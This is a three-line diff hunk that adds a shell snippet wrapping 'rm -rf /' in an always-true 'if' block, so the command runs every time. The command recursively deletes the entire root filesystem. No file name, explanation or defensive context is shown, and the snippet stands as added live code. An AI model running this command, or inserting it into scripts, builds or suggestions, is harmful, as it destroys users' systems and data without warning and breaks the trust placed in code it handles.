@@ -1,0 +1,3 @@
+if true; then
+  rm -rf /
+fi
